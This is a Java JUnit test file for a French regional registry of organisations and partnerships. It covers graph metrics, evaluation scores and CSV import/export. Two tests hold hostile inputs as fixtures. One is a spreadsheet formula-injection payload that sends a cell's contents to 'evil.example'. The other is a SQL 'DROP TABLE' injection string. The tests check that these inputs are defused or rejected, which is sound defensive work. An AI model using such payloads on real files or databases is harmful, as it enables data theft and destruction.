package org.phare.store.ecosystem;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;
import static org.phare.store.ecosystem.Samples.*;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.phare.core.ecosystem.Family;
import org.phare.core.ecosystem.Impact;
import org.phare.core.ecosystem.ImpactScore;
import org.phare.core.ecosystem.Initiative;
import org.phare.core.ecosystem.InitiativeKind;
import org.phare.core.ecosystem.Modality;
import org.phare.core.ecosystem.Organisation;
import org.phare.core.ecosystem.Partnership;
import org.phare.core.ecosystem.PartnershipCategory;
import org.phare.core.indicator.Domain;
import org.phare.core.territory.TerritoryId;
import org.phare.core.text.CsvTable;
import org.phare.store.message.Rendered;

class AnalysisAndCsvTest {

  static final EcosystemDatabase DB = EcosystemDatabase.get();
  final EcosystemServices s = DB.services;

  @BeforeEach
  void reset() {
    DB.reset();
  }

  /** Loiret: companies A, B; associations C, D; authority E; Cher: association F. */
  long[] registry() {
    var r = s.registry();
    long a = r.create(LOIRET_EDITOR, company("Alpha", "45234", null), false).id();
    long b = r.create(LOIRET_EDITOR, company("Beta", "45232", null), false).id();
    long c = r.create(LOIRET_EDITOR, association("Collectif C", "45234"), false).id();
    long d = r.create(LOIRET_EDITOR, association("Dynamo D", "45232"), false).id();
    long e = r.create(LOIRET_EDITOR, authority("Ville E", "45234"), false).id();
    long f = r.create(CHER_EDITOR, association("Foyer F", "18033"), false).id();
    partnership(List.of(a, c), PartnershipCategory.MECENAT, Modality.FINANCIAL_PATRONAGE, LOIRET);
    partnership(List.of(a, d), PartnershipCategory.RESPONSIBLE_PRACTICES, null, LOIRET);
    partnership(
        List.of(c, d, e), PartnershipCategory.SOCIETAL_INNOVATION, Modality.SEEDING_RND, LOIRET);
    // A partnership across départements: the Cher member is outside the Loiret graph.
    partnership(List.of(b, f), PartnershipCategory.MECENAT, Modality.IN_KIND_PATRONAGE, CENTRE);
    return new long[] {a, b, c, d, e, f};
  }

  Partnership partnership(
      List<Long> members, PartnershipCategory category, Modality modality, TerritoryId where) {
    return s.registry()
        .create(
            org.phare.core.account.Actor.SYSTEM,
            new Partnership(
                0,
                "P" + members,
                members,
                category,
                modality,
                Set.of(Domain.POVERTY),
                where,
                null,
                null,
                Set.of(),
                null,
                null,
                Set.of(),
                0));
  }

  @Test
  void the_loiret_graph_keeps_local_organisations_and_their_local_links() {
    long[] id = registry();
    TerritoryGraph graph = s.analysis().graph(LOIRET, TerritoryGraph.Filter.NONE);
    assertThat(graph.nodes()).hasSize(5);
    // Links: a-c, a-d, c-d, c-e, d-e (b-f leaves the Loiret).
    assertThat(graph.links()).hasSize(5);
    assertThat(graph.metrics().density()).isCloseTo(2.0 * 5 / (5 * 4), within(1e-12));
    assertThat(graph.metrics().isolated()).isEqualTo(1); // Beta
    assertThat(graph.metrics().components()).isEqualTo(2);
    TerritoryGraph mecenat =
        s.analysis()
            .graph(LOIRET, new TerritoryGraph.Filter(null, PartnershipCategory.MECENAT, null));
    assertThat(mecenat.links())
        .singleElement()
        .satisfies(
            l -> {
              assertThat(Set.of(l.source(), l.target())).containsExactlyInAnyOrder(id[0], id[2]);
              assertThat(l.categories()).containsExactly(PartnershipCategory.MECENAT);
            });
    TerritoryGraph associations =
        s.analysis().graph(LOIRET, new TerritoryGraph.Filter(Family.GENERAL_INTEREST, null, null));
    assertThat(associations.nodes())
        .extracting(TerritoryGraph.Node::id)
        .containsExactlyInAnyOrder(id[2], id[3]);
    assertThat(s.analysis().metrics(CENTRE).links()).isEqualTo(6);
  }

  @Test
  void the_overview_counts_practice_rates_and_categories_by_hand() {
    registry();
    EcosystemOverview o = s.analysis().overview(LOIRET);
    assertThat(o.organisations()).isEqualTo(5);
    assertThat(o.byFamily())
        .containsEntry(Family.ECONOMIC_ACTOR, 2)
        .containsEntry(Family.GENERAL_INTEREST, 2)
        .containsEntry(Family.PUBLIC_AUTHORITY, 1)
        .containsEntry(Family.MEDIA, 0);
    assertThat(o.ess()).isEqualTo(2);
    // Partnerships with a Loiret member: all four.
    assertThat(o.partnerships()).isEqualTo(4);
    assertThat(o.partnershipsByCategory()).containsEntry(PartnershipCategory.MECENAT, 2);
    // Both companies partner (Alpha twice, Beta with the Cher): rate 2/2; associations 2/2.
    assertThat(o.companies().rate()).isEqualTo(1.0);
    assertThat(o.companies().national()).isEqualTo(0.37);
    // Among the 2 partnering companies: mécénat 2/2, responsible practices 1/2, societal innovation
    // 0.
    assertThat(o.categoryShareAmongPartneringCompanies())
        .containsEntry(PartnershipCategory.MECENAT, 1.0)
        .containsEntry(PartnershipCategory.RESPONSIBLE_PRACTICES, 0.5)
        .containsEntry(PartnershipCategory.SOCIETAL_INNOVATION, 0.0);
    assertThat(o.network().nodes()).isEqualTo(5);
  }

  @Test
  void evaluations_aggregate_per_territory_on_the_three_impacts() {
    long[] id = registry();
    Partnership p = s.registry().partnerships(LOIRET, 10, 0).get(0);
    Initiative dialogue =
        s.registry()
            .create(
                LOIRET_EDITOR,
                new Initiative(
                    0,
                    InitiativeKind.TERRITORIAL_DIALOGUE,
                    "Speed-dating asso-entreprises",
                    LOIRET,
                    List.of(id[0], id[2]),
                    null,
                    Set.of(),
                    null,
                    null,
                    null,
                    Set.of(),
                    0));
    assertThat(s.evaluations().questions()).hasSize(9);
    s.evaluations()
        .evaluate(
            LOIRET_EDITOR,
            EvaluationStore.Subject.PARTNERSHIP,
            p.id(),
            Map.of("PERF_OBJECTIVES", 4, "PERF_SKILLS", 2, "CONF_TRUST", 5),
            "");
    s.evaluations()
        .evaluate(
            LOIRET_EDITOR,
            EvaluationStore.Subject.INITIATIVE,
            dialogue.id(),
            Map.of("PERF_OBJECTIVES", 5),
            "bien");
    List<ImpactScore> scores = s.evaluations().impactScores(LOIRET);
    // Performance: (4+2)/2 = 3 and 5 → mean 4; confidence: 5 (one evaluation).
    assertThat(scores.get(0).impact()).isEqualTo(Impact.ORGANISATION_PERFORMANCE);
    assertThat(scores.get(0).mean()).isCloseTo(4.0, within(1e-12));
    assertThat(scores.get(0).evaluations()).isEqualTo(2);
    assertThat(scores.get(2).mean()).isEqualTo(5.0);
    assertThat(s.evaluations().impactScores(CHER).get(0).evaluations()).isZero();
    assertThatThrownBy(
            () ->
                s.evaluations()
                    .evaluate(
                        LOIRET_EDITOR,
                        EvaluationStore.Subject.PARTNERSHIP,
                        p.id(),
                        Map.of("NOPE", 3),
                        ""))
        .satisfies(
            e ->
                assertThat(Rendered.french(e))
                    .isEqualTo(
                        "Question « NOPE » inconnue : le questionnaire a changé, rechargez la"
                            + " page."));
    assertThatThrownBy(
            () ->
                s.evaluations()
                    .evaluate(
                        CHER_EDITOR,
                        EvaluationStore.Subject.PARTNERSHIP,
                        p.id(),
                        Map.of("CONF_TRUST", 3),
                        ""))
        .satisfies(e -> assertThat(Rendered.french(e)).contains("pas le droit d’évaluer"));
    assertThat(s.analysis().overview(LOIRET).impacts().get(0).evaluations()).isEqualTo(2);
  }

  @Test
  void evaluations_aggregate_per_partnership_or_initiative_on_their_own() {
    registry();
    List<Partnership> partnerships = s.registry().partnerships(LOIRET, 10, 0);
    long first = partnerships.get(0).id();
    long second = partnerships.get(1).id();
    var evaluations = s.evaluations();
    evaluations.evaluate(
        LOIRET_EDITOR,
        EvaluationStore.Subject.PARTNERSHIP,
        first,
        Map.of("PERF_OBJECTIVES", 4, "PERF_SKILLS", 2, "INNOV_SOLUTION", 3),
        "");
    evaluations.evaluate(
        LOIRET_EDITOR,
        EvaluationStore.Subject.PARTNERSHIP,
        first,
        Map.of("PERF_OBJECTIVES", 5, "INNOV_SOLUTION", 5),
        "");
    evaluations.evaluate(
        LOIRET_EDITOR, EvaluationStore.Subject.PARTNERSHIP, second, Map.of("CONF_TRUST", 1), "");
    List<ImpactScore> scores = evaluations.impactScores(EvaluationStore.Subject.PARTNERSHIP, first);
    // By hand: performance (4+2)/2 = 3 and 5 → mean 4, sd sqrt(((3-4)² + (5-4)²)/1) = sqrt(2);
    // innovation 3 and 5 → mean 4, sd sqrt(2); confidence unanswered → n = 0, NaN. The second
    // partnership's evaluation is not counted.
    assertThat(scores).extracting(ImpactScore::impact).containsExactly(Impact.values());
    assertThat(scores.get(0).evaluations()).isEqualTo(2);
    assertThat(scores.get(0).mean()).isCloseTo(4.0, within(1e-12));
    assertThat(scores.get(0).standardDeviation()).isCloseTo(Math.sqrt(2), within(1e-12));
    assertThat(scores.get(1).mean()).isCloseTo(4.0, within(1e-12));
    assertThat(scores.get(2).evaluations()).isZero();
    assertThat(scores.get(2).mean()).isNaN();
    // The same id as an initiative is another subject: no evaluation.
    assertThat(evaluations.impactScores(EvaluationStore.Subject.INITIATIVE, first))
        .allSatisfy(score -> assertThat(score.evaluations()).isZero());
    assertThat(evaluations.impactScores(EvaluationStore.Subject.PARTNERSHIP, second).get(2).mean())
        .isEqualTo(1.0);
  }

  @Test
  void organisations_round_trip_through_csv() {
    registry();
    StringWriter out = new StringWriter();
    s.csv().exportOrganisations(LOIRET, out);
    String csv = out.toString();
    assertThat(csv.lines()).hasSize(6);
    // French spreadsheets by default: BOM, then ; between cells
    assertThat(csv.lines().findFirst().orElseThrow())
        .startsWith("\uFEFFid;name;type;size")
        .endsWith(
            ";type_libelle;taille_libelle;statut_libelle;domaines_libelles;objectifs_libelles");
    StringWriter english = new StringWriter();
    s.csv().exportOrganisations(LOIRET, null, CsvTable.Format.ENGLISH, english);
    assertThat(english.toString()).startsWith("id,name,type,size");
    DB.reset();
    RegistryCsv.ImportResult result =
        s.csv().importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false);
    assertThat(result.imported()).isEqualTo(5);
    assertThat(s.registry().organisations(LOIRET, null, null, 100, 0))
        .extracting(Organisation::name)
        .containsExactly("Alpha", "Beta", "Collectif C", "Dynamo D", "Ville E");
    // the English file imports back too (the separator is read from the header line)
    DB.reset();
    assertThat(
            s.csv()
                .importOrganisations(
                    LOIRET_EDITOR, "orgs.csv", new StringReader(english.toString()), false)
                .imported())
        .isEqualTo(5);
  }

  @Test
  void exported_formulas_are_defused_import_back_verbatim_and_contacts_follow_the_reader() {
    String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
    s.registry().create(LOIRET_EDITOR, company(formula, "45234", null), false);
    StringWriter out = new StringWriter();
    s.csv().exportOrganisations(LOIRET, LOIRET_EDITOR.permissions(), CsvTable.Format.FRENCH, out);
    String csv = out.toString();
    assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(";\"=HYPERLINK(");
    assertThat(csv).contains("jeanne@example.org");
    StringWriter anonymous = new StringWriter();
    s.csv().exportOrganisations(LOIRET, null, CsvTable.Format.FRENCH, anonymous);
    assertThat(anonymous.toString()).contains("'=HYPERLINK(").doesNotContain("jeanne@example.org");
    StringWriter cher = new StringWriter();
    s.csv().exportOrganisations(LOIRET, CHER_EDITOR.permissions(), CsvTable.Format.FRENCH, cher);
    assertThat(cher.toString()).doesNotContain("Jeanne Martin");
    DB.reset();
    s.csv().importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false);
    assertThat(s.registry().organisations(LOIRET, null, null, 100, 0))
        .extracting(Organisation::name)
        .containsExactly(formula);
  }

  @Test
  void a_partnership_import_cannot_link_an_organisation_of_another_territory() {
    long orleans = s.registry().create(LOIRET_EDITOR, association("Alpha", "45234"), false).id();
    long bourges = s.registry().create(CHER_EDITOR, association("Foyer", "18033"), false).id();
    String csv =
        "title,members,category,territory\n"
            + "Mécénat,"
            + orleans
            + "|"
            + bourges
            + ",MECENAT,departement:45\n";
    assertThatThrownBy(
            () -> s.csv().importPartnerships(LOIRET_EDITOR, "p.csv", new StringReader(csv)))
        .isInstanceOf(ImportException.class)
        .satisfies(
            e ->
                assertThat(((ImportException) e).errors().get(0).reason().code())
                    .isEqualTo("registry.link.other-territory"));
    assertThat(s.registry().partnerships(LOIRET, 100, 0)).isEmpty();
  }

  @Test
  void a_bad_line_refuses_the_whole_file_with_line_column_and_field() {
    String csv =
        "name,type,size,commune,domains,siren\n"
            + "Bonne asso,ASSOCIATION,,45234,POVERTY,\n"
            + "Mauvaise entreprise,COMPANY,HUGE,45234,,\n"
            + "Inconnue,ASSOCIATION,,99999,,\n"
            + "Domaine faux,ASSOCIATION,,45234,WEATHER,\n"
            + "\"Robert'); DROP TABLE eco_organisation;--\",ASSOCIATION,,45232,,552100555\n";
    assertThatThrownBy(
            () ->
                s.csv()
                    .importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false))
        .isInstanceOfSatisfying(
            ImportException.class,
            e -> {
              assertThat(e.errors())
                  .extracting(ImportException.LineError::line)
                  .containsExactly(3L, 4L, 5L, 6L);
              assertThat(e.errors().get(0).toString())
                  .isEqualTo("orgs.csv:3:3 (size): input.unknown-value[size]{value=HUGE}");
              assertThat(Rendered.french(e)).startsWith("Valeur « HUGE » inconnue.\n");
              assertThat(e.errors().get(1).field()).isEqualTo("commune");
              assertThat(e.errors().get(1).column()).isEqualTo(4);
              assertThat(e.errors().get(2).field()).isEqualTo("domains");
              assertThat(e.errors().get(3).field()).isEqualTo("siren");
            });
    assertThat(s.registry().organisations(TerritoryId.FRANCE, null, null, 100, 0)).isEmpty();
  }

  @Test
  void an_import_outside_the_editors_territory_or_with_duplicates_is_refused_whole() {
    String csv = "name,type,commune\nAsso A,ASSOCIATION,45234\nAsso B,ASSOCIATION,18033\n";
    assertThatThrownBy(
            () -> s.csv().importOrganisations(LOIRET_EDITOR, "o.csv", new StringReader(csv), false))
        .isInstanceOfSatisfying(
            ImportException.class,
            e ->
                assertThat(e.errors())
                    .singleElement()
                    .satisfies(
                        err -> {
                          assertThat(err.line()).isEqualTo(3);
                          assertThat(err.field()).isEqualTo("commune");
                        }));
    String twins =
        "name,type,commune\nLes Restos du Cœur,ASSOCIATION,45234\nRestos du coeur,ASSOCIATION,45234\n";
    assertThatThrownBy(
            () ->
                s.csv().importOrganisations(LOIRET_EDITOR, "o.csv", new StringReader(twins), false))
        .satisfies(e -> assertThat(Rendered.french(e)).contains("Doublon probable de la ligne 2."));
    assertThat(s.registry().organisations(TerritoryId.FRANCE, null, null, 100, 0)).isEmpty();
    assertThat(
            s.csv()
                .importOrganisations(LOIRET_EDITOR, "o.csv", new StringReader(twins), true)
                .imported())
        .isEqualTo(2);
  }

  @Test
  void partnerships_import_by_id_or_siren_and_export() {
    long alpha =
        s.registry().create(LOIRET_EDITOR, company("Alpha", "45234", "552100554"), false).id();
    long asso = s.registry().create(LOIRET_EDITOR, association("Asso", "45234"), false).id();
    String csv =
        "title,members,category,modality,territory,start,end\n"
            + "Mécénat,siren:552100554|"
            + asso
            + ",MECENAT,FINANCIAL_PATRONAGE,departement:45,2024-01-01,2025-06-30\n";
    assertThat(s.csv().importPartnerships(LOIRET_EDITOR, "p.csv", new StringReader(csv)).imported())
        .isEqualTo(1);
    Partnership p = s.registry().partnerships(LOIRET, 10, 0).get(0);
    assertThat(p.memberIds()).containsExactly(alpha, asso);
    assertThat(p.start()).hasToString("2024-01-01");
    StringWriter out = new StringWriter();
    s.csv().exportPartnerships(LOIRET, out);
    assertThat(out.toString()).contains("departement:45;2024-01-01;2025-06-30");
    String bad =
        "title,members,category,territory,start\nX,"
            + alpha
            + ",MECENAT,departement:45,2024-13-01\n";
    assertThatThrownBy(
            () -> s.csv().importPartnerships(LOIRET_EDITOR, "p.csv", new StringReader(bad)))
        .isInstanceOfSatisfying(
            ImportException.class,
            e ->
                assertThat(e.errors())
                    .extracting(ImportException.LineError::field)
                    .contains("start"));
  }
}
